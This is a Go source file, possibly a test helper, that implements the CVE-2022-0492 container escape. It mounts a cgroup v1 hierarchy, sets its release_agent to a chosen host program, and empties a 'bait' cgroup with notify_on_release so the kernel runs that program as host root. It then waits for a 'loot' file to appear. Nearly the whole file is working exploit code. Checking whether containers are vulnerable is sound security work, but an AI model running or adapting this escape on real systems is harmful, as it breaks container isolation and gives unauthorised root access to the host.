package main

import (
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"time"

	"golang.org/x/sys/unix"
)

// The release agent of a hierarchy of cgroup v1 is a program that the kernel runs, as the node's root outside of all containers, when
// a cgroup becomes empty. CVE-2022-0492 was that root of any user namespace could set it.

// agentOfNewHierarchy makes a hierarchy with the name args[0] whose agent is the host's file args[1], and waits until that has made
// the file args[2].
func agentOfNewHierarchy(args []string) error { return runAgent(args[0], args[1], args[2]) }

// agentOfHostHierarchy does the same with a hierarchy of the host, mounted from a new cgroup
// namespace of the container.
func agentOfHostHierarchy(args []string) error {
	if err := unix.Unshare(unix.CLONE_NEWCGROUP); err != nil {
		return failed("unshare", err)
	}
	return runAgent(args[0], args[1], args[2])
}

func runAgent(hierarchy, payload, loot string) (err error) {
	at, err := os.MkdirTemp("", "hierarchy")
	if err != nil {
		return err
	}
	defer func() { err = errors.Join(err, os.Remove(at)) }()
	if err := unix.Mount("cgroup", at, "cgroup", 0, "none,name="+hierarchy); err != nil {
		return failed("mount", err)
	}
	defer func() { err = errors.Join(err, unix.Unmount(at, 0)) }()

	agent, err := os.OpenFile(filepath.Join(at, "release_agent"), os.O_WRONLY, 0)
	if err != nil {
		return failed("open", err)
	}
	defer agent.Close()
	if _, err := agent.WriteString(payload); err != nil {
		return failed("write", err)
	}
	defer func() { err = errors.Join(err, os.WriteFile(agent.Name(), []byte("\n"), 0)) }()
	cgroup := filepath.Join(at, "bait")
	if err := os.Mkdir(cgroup, 0o755); err != nil {
		return failed("mkdir", err)
	}
	defer func() { err = errors.Join(err, os.Remove(cgroup)) }()
	if err := os.WriteFile(filepath.Join(cgroup, "notify_on_release"), []byte("1"), 0); err != nil {
		return failed("notify", err)
	}
	if err := exec.Command("/bin/sh", "-c", "echo 0 > "+filepath.Join(cgroup, "cgroup.procs")).Run(); err != nil {
		return err
	}
	return waitFor(loot)
}

// waitFor waits for a file, up to 10 s.
func waitFor(file string) error {
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		if _, err := os.Stat(file); err == nil {
			return nil
		}
	}
	return fmt.Errorf("file %q did not appear", file)
}
